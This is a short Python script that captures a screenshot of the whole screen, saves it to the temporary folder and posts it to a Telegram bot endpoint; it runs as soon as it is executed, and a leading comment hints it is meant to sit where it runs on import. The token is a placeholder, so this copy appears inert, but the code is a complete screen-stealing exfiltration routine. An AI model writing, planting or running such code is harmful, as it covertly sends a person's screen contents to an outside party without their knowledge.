# place: import
import os
import tempfile
import requests
from PIL import ImageGrab

ADDRESS = "https://api.telegram.org/bot0:inert/sendPhoto"


def shoot():
    path = os.path.join(tempfile.gettempdir(), "view.png")
    picture = ImageGrab.grab()
    picture.save(path)
    return path


def main():
    with open(shoot(), "rb") as file:
        requests.post(ADDRESS, data={"chat_id": 0}, files={"photo": file})


main()
